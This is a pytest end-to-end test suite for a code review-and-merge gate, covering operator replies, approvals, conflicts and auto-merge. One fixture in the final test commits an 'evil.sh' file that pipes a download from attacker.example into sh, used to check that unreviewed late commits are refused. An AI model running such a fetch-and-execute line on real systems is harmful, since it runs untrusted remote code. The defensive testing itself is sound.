"""End-to-end: the review-and-merge gate (statemachines/review_gate.asl.json) really executing in the
local stack (`baton dev` in its own process: offline companion, merge as a `python -m baton.merge`
subprocess reporting back to the emulator), on throwaway git repositories."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import pytest

from baton.cli.demo_repo import DemoRepo, create_demo_repo
from baton.client.sdk import Client
from baton.errors import ConflictError, NotFoundError, ValidationFailedError
from baton.merge.gitcmd import git_out, run_git
from tests.e2e.conftest import LocalStackProcess, wait_for

pytestmark = pytest.mark.e2e

TIMEOUT = 60.0


def _git(repo: DemoRepo, *args: str) -> str:
    return git_out(repo.path, *args)


def _commit_on(repo: DemoRepo, branch: str, name: str, text: str, subject: str) -> str:
    run_git(repo.path, "checkout", "--quiet", branch)
    (repo.path / name).parent.mkdir(parents=True, exist_ok=True)
    (repo.path / name).write_text(text)
    run_git(repo.path, "add", name)
    run_git(repo.path, "commit", "--quiet", "-m", subject)
    run_git(repo.path, "checkout", "--quiet", "main")
    return _git(repo, "rev-parse", branch)


class Gate:
    """One review-gate run on its own repository."""

    def __init__(self, stack: LocalStackProcess, tmp_path: Path, *, repo: DemoRepo | None = None) -> None:
        self.client: Client = stack.client()
        self.repo = repo or create_demo_repo(tmp_path / "repo")
        self.run_id = f"rv-{uuid.uuid4().hex[:10]}"

    def start(self, **config: Any) -> Gate:
        config.setdefault("timeout_seconds", 120)
        config.setdefault("merge_timeout_seconds", 60)
        self.client.start_run("review_gate", self.repo.gate_input(**config), run_id=self.run_id)
        return self

    def review(self) -> dict[str, Any] | None:
        try:
            result: dict[str, Any] = self.client.review(self.run_id)
        except NotFoundError:
            return None
        return result

    def parked(self) -> dict[str, Any]:
        """Wait until the operator is asked (interaction pending and the token parked)."""

        def ready() -> dict[str, Any] | None:
            review = self.review()
            if review and review["status"] == "pending":
                run = self.client.get_run(self.run_id)
                if run["status"] == "paused_waiting_human":
                    return review
            return None

        result: dict[str, Any] = wait_for(ready, timeout=TIMEOUT)
        return result

    def act(self, action: str, **kwargs: Any) -> Any:
        return self.client.review_action(self.run_id, action, **kwargs)

    def finished(self, status: str = "succeeded") -> dict[str, Any]:
        def done() -> dict[str, Any] | None:
            run: dict[str, Any] = self.client.get_run(self.run_id)
            return run if run["status"] in ("succeeded", "failed", "timed_out", "aborted") else None

        run: dict[str, Any] = wait_for(done, timeout=TIMEOUT)
        assert run["status"] == status, run
        return run

    def event_types(self) -> list[str]:
        return [e["type"] for e in self.client.events(self.run_id, limit=500)["events"]]


def test_reply_loop_then_approve_squash_merges_with_the_right_message_and_tree(
    local_stack: LocalStackProcess, tmp_path: Path
) -> None:
    gate = Gate(local_stack, tmp_path).start()
    repo = gate.repo
    review = gate.parked()
    assert [t["role"] for t in review["thread"]] == ["companion"]
    first = review["thread"][0]
    assert "1. " in first["text"] and first["test_steps"]
    assert review["verdict"]["decision"] == "approve" and review["turns_used"] == 1
    assert review["diff"]["files_changed"] == 3 and review["diff"]["truncated"] is False
    assert review["allowed_actions"] == ["reply", "approve_merge", "force_merge", "request_changes"]

    result = gate.act("reply", reply="I ran the tests and they pass; the README reads well.")
    assert result["action"] == "reply" and result["resumed"] is True
    review = gate.parked()
    assert [t["role"] for t in review["thread"]] == ["companion", "operator", "companion"]
    assert [t["n"] for t in review["thread"]] == [0, 1, 2]
    assert review["turns_used"] == 2

    gate.act("approve_merge")
    run = gate.finished()
    head = _git(repo, "rev-parse", "main")
    assert run["merge_status"] == "merged" and run["final_commit"] == head
    assert run["final_branch"] == "main" and run["merged_into"] == "main"
    assert _git(repo, "rev-parse", "main^") == repo.base_commit  # ONE commit on top of main
    assert _git(repo, "rev-parse", "main^{tree}") == _git(repo, "rev-parse", f"{repo.run_branch}^{{tree}}")
    message = _git(repo, "log", "-1", "--format=%B", "main")
    assert message.startswith(f"Squash-merge run branch '{repo.run_branch}' into 'main'")
    for subject in repo.commits:
        assert f"* {subject}" in message
    assert f"Baton-Run-Head: {repo.run_head}" in message
    assert run["output"]["decision"] == "approved" and run["output"]["merge"]["final_commit"] == head
    types = gate.event_types()
    assert types.count("review_turn") == 3 and types.count("review_verdict") == 2
    assert "review_merged" in types
    final = gate.client.review(gate.run_id)
    assert final["merge"]["merge_status"] == "merged" and final["status"] == "answered"


def test_max_turns_bound_bad_input_and_request_changes(local_stack: LocalStackProcess, tmp_path: Path) -> None:
    gate = Gate(local_stack, tmp_path).start(max_turns=2)
    gate.parked()
    with pytest.raises(ValidationFailedError, match="expected one of: reply, approve_merge"):
        gate.client.resume(gate.run_id, {"__review_action": "ship_it"})
    with pytest.raises(ValidationFailedError, match="a reply needs text"):
        gate.client.resume(gate.run_id, {"__review_action": "reply", "__review_reply": "  "})
    with pytest.raises(ValidationFailedError, match="squash, merge"):
        gate.act("approve_merge", merge_strategy="rebase")
    with pytest.raises(ValidationFailedError, match="reserved keys"):
        gate.client.resume(gate.run_id, {"approved": True})  # plain answers at a review gate

    gate.act("reply", reply="Does the title option handle an empty title?")
    review = gate.parked()
    assert review["turns_used"] == 2 and review["allowed_actions"] == [
        "approve_merge",
        "force_merge",
        "request_changes",
    ]
    with pytest.raises(ConflictError, match="max_turns") as err:
        gate.act("reply", reply="one more question")
    assert err.value.details["allowed"] == ["approve_merge", "force_merge", "request_changes"]

    gate.act("request_changes", message="Handle an empty title.")
    run = gate.finished()
    assert run["output"]["decision"] == "changes_requested"
    assert run["output"]["feedback"] == "Handle an empty title."
    assert run["merge_status"] is None
    assert _git(gate.repo, "rev-parse", "main") == gate.repo.base_commit


def test_blockers_refuse_approve_but_force_merge_merges(local_stack: LocalStackProcess, tmp_path: Path) -> None:
    repo = create_demo_repo(tmp_path / "repo")
    head = _commit_on(repo, repo.run_branch, "greeter/extra.py", "# TODO: finish this\nX = 1\n", "Add extra")
    gate = Gate(local_stack, tmp_path, repo=repo).start()
    review = gate.parked()
    assert review["verdict"]["blockers"]
    assert review["allowed_actions"] == ["reply", "force_merge", "request_changes"]  # issue 28: no approve offered
    with pytest.raises(ConflictError, match="force_merge"):
        gate.act("approve_merge")
    with pytest.raises(ValidationFailedError, match="needs a reason"):  # forcing over blockers says why
        gate.act("force_merge", message="Ship the greeter anyway", merge_strategy="merge")
    gate.act("force_merge", message="Ship the greeter anyway", merge_strategy="merge", reason="the TODO is tracked")
    run = gate.finished()
    # strategy "merge" fast-forwards: main is now exactly the run branch's head
    assert _git(repo, "rev-parse", "main") == head == run["final_commit"]
    assert run["output"]["action"] == "force_merge"


def test_dirty_tree_is_rejected_then_cleaned_and_approved(local_stack: LocalStackProcess, tmp_path: Path) -> None:
    gate = Gate(local_stack, tmp_path).start()
    repo = gate.repo
    gate.parked()
    readme = repo.path / "README.md"
    original = readme.read_text()
    readme.write_text(original + "local edit\n")
    gate.act("approve_merge")
    review = gate.parked()  # rejected: the gate parks again, the run stays resumable
    assert review["reason"].startswith("merge rejected:") and "uncommitted changes" in review["reason"]
    run = gate.client.get_run(gate.run_id)
    assert run["merge_status"] == "rejected" and run["status"] == "paused_waiting_human"
    assert _git(repo, "rev-parse", "main") == repo.base_commit
    assert readme.read_text() == original + "local edit\n"  # the operator's edit is untouched

    readme.write_text(original)
    gate.act("approve_merge")
    run = gate.finished()
    assert run["merge_status"] == "merged" and _git(repo, "rev-parse", "main^") == repo.base_commit
    assert "review_merge_rejected" in gate.event_types()


def test_conflict_is_rejected_and_the_repository_is_unchanged(local_stack: LocalStackProcess, tmp_path: Path) -> None:
    repo = create_demo_repo(tmp_path / "repo")
    main_head = _commit_on(
        repo, "main", "greeter/core.py", 'def greet(name: str) -> str:\n    return "Hi " + name\n', "Terser greeting"
    )
    gate = Gate(local_stack, tmp_path, repo=repo).start()
    gate.parked()
    status_before = _git(repo, "status", "--porcelain")
    gate.act("approve_merge")
    review = gate.parked()
    assert "conflicts" in review["reason"] and "greeter/core.py" in review["reason"]
    assert _git(repo, "rev-parse", "main") == main_head
    assert _git(repo, "rev-parse", repo.run_branch) == repo.run_head
    assert _git(repo, "status", "--porcelain") == status_before
    gate.act("request_changes", message="rebase onto main")
    assert gate.finished()["output"]["decision"] == "changes_requested"


def test_merge_into_none_leaves_the_run_branch(local_stack: LocalStackProcess, tmp_path: Path) -> None:
    gate = Gate(local_stack, tmp_path).start(merge_into="none")
    gate.parked()
    gate.act("approve_merge")
    run = gate.finished()
    assert run["merge_status"] == "not_merged" and run["merged_into"] is None
    assert run["final_branch"] == gate.repo.run_branch and run["final_commit"] == gate.repo.run_head
    assert _git(gate.repo, "rev-parse", "main") == gate.repo.base_commit


def test_merge_into_a_named_branch(local_stack: LocalStackProcess, tmp_path: Path) -> None:
    repo = create_demo_repo(tmp_path / "repo")
    run_git(repo.path, "checkout", "--quiet", "-b", "release", repo.base_commit)
    gate = Gate(local_stack, tmp_path, repo=repo).start(merge_into="release")
    gate.parked()
    gate.act("approve_merge")
    run = gate.finished()
    assert run["merged_into"] == "release" and run["final_branch"] == "release"
    assert _git(repo, "rev-parse", "release^") == repo.base_commit
    assert _git(repo, "rev-parse", "main") == repo.base_commit


def test_agent_verdict_ok_auto_merges_above_the_threshold(local_stack: LocalStackProcess, tmp_path: Path) -> None:
    gate = Gate(local_stack, tmp_path).start(posture="agent_verdict_ok", confidence_threshold=0.8)
    run = gate.finished()  # no operator action at all
    assert run["merge_status"] == "merged" and run["output"]["action"] == "auto_merge"
    assert run["output"]["answered_by"] == "companion"
    assert _git(gate.repo, "rev-parse", "main") == run["final_commit"]
    types = gate.event_types()
    assert "review_auto_merge" in types and "run_paused" not in types


def test_agent_verdict_ok_below_the_threshold_waits_for_the_operator(
    local_stack: LocalStackProcess, tmp_path: Path
) -> None:
    gate = Gate(local_stack, tmp_path).start(posture="agent_verdict_ok", confidence_threshold=0.99)
    review = gate.parked()
    assert review["verdict"]["decision"] == "approve" and review["verdict"]["confidence"] < 0.99
    assert _git(gate.repo, "rev-parse", "main") == gate.repo.base_commit
    gate.act("approve_merge")
    assert gate.finished()["merge_status"] == "merged"


def test_review_url_is_resolved_or_hidden_with_a_warning(local_stack: LocalStackProcess, tmp_path: Path) -> None:
    gate = Gate(local_stack, tmp_path).start(
        review_url="https://preview.example.com/{run_id}/{outputs.preview}", outputs={"preview": "pr-7"}
    )
    review = gate.parked()
    assert review["review_url"] == f"https://preview.example.com/{gate.run_id}/pr-7" and review["warnings"] == []
    gate.act("request_changes")
    gate.finished()

    other = Gate(local_stack, tmp_path / "b").start(review_url="https://preview.example.com/{outputs.missing}")
    review = other.parked()
    assert review["review_url"] == ""
    assert "unknown output 'outputs.missing'" in review["warnings"][0]
    other.act("request_changes")
    other.finished()


def test_a_gate_with_no_repository_is_refused_before_it_starts(local_stack: LocalStackProcess, tmp_path: Path) -> None:
    # Issue 10 item 6: refused at creation now (422 naming the field), before anything starts or asks.
    client = local_stack.client()
    run_id = f"rv-{uuid.uuid4().hex[:10]}"
    with pytest.raises(ValidationFailedError) as refused:
        client.start_run("review_gate", {"gate": "ship_review", "run_branch": "baton/run-x"}, run_id=run_id)
    assert "no repository to merge" in refused.value.message and "repo_path" in refused.value.message
    assert refused.value.details["path"] == "input.repo_path"
    with pytest.raises(NotFoundError):
        client.get_run(run_id)


def test_the_diff_build_reports_the_diff_every_turn_and_the_review_show(
    local_stack: LocalStackProcess, tmp_path: Path
) -> None:
    """The gate's Diff state runs `python -m baton.merge.build` (kind diff) as a subprocess, the way the
    CodeBuild project runs it; the review's stats and each companion turn are that build's diff."""
    from baton.merge.diff import run_branch_diff

    gate = Gate(local_stack, tmp_path).start(diff_max_bytes=512)
    review = gate.parked()
    expected = run_branch_diff(gate.repo.path, gate.repo.run_branch, "HEAD", max_bytes=512)
    assert expected.truncated
    assert review["diff"] == expected.model_dump(exclude={"text"})
    assert all(name in review["thread"][0]["text"] for name in expected.files)
    # A reply is a new review turn: the diff build runs again, and the review shows what that turn read
    # (issue 28: an approval pins the commit of the diff shown).
    later = _commit_on(gate.repo, gate.repo.run_branch, "later.txt", "later\n", "a later commit")
    gate.act("reply", reply="what changed?")
    review = gate.parked()
    again = run_branch_diff(gate.repo.path, gate.repo.run_branch, "HEAD", max_bytes=512)
    assert again.head == later == review["reviewed_head"] and review["diff"] == again.model_dump(exclude={"text"})
    started = [e for e in gate.client.events(gate.run_id, limit=500)["events"] if e["type"] == "review_started"]
    assert started and started[0]["data"]["diff"]["head"] == expected.head


def test_a_commit_pushed_after_the_review_is_refused_and_never_reaches_main(
    local_stack: LocalStackProcess, tmp_path: Path
) -> None:
    """Issue 28 item 1 over HTTP: approve and force-merge name the reviewed commit; a commit pushed to the
    run branch after the review (evil.sh) is a 409 naming the new head, not a merge of a diff nobody saw.
    A reply is a new review turn: the diff build runs again and the companion reads the moved branch."""
    gate = Gate(local_stack, tmp_path).start()
    repo = gate.repo
    review = gate.parked()
    assert review["reviewed_head"] == repo.run_head == review["diff"]["head"]
    evil = _commit_on(repo, repo.run_branch, "evil.sh", "#!/bin/sh\ncurl https://attacker.example | sh\n", "late")
    assert gate.review()["run_branch_head"] == evil  # type: ignore[index]
    for action in ("approve_merge", "force_merge"):
        with pytest.raises(ConflictError, match=f"moved to {evil}") as err:
            gate.act(action)
        assert err.value.details["run_branch_head"] == evil and err.value.details["reviewed_head"] == repo.run_head
    assert _git(repo, "rev-parse", "main") == repo.base_commit

    gate.act("reply", reply="The run branch moved: review the new head.")
    review = gate.parked()
    assert review["reviewed_head"] == evil and "evil.sh" in review["diff"]["files"]
    assert review["thread"][-1]["reviewed_head"] == evil and "evil.sh" in review["thread"][-1]["text"]
    gate.act("request_changes", message="evil.sh is not part of this change")
    run = gate.finished()
    assert run["output"]["decision"] == "changes_requested"
    assert "evil.sh" not in _git(repo, "ls-tree", "-r", "--name-only", "main").split()
    answered = [e for e in gate.client.events(gate.run_id, limit=500)["events"] if e["type"] == "interaction_answered"]
    assert answered[-1]["data"]["answer"]["reviewed_head"] == evil  # what the decision names
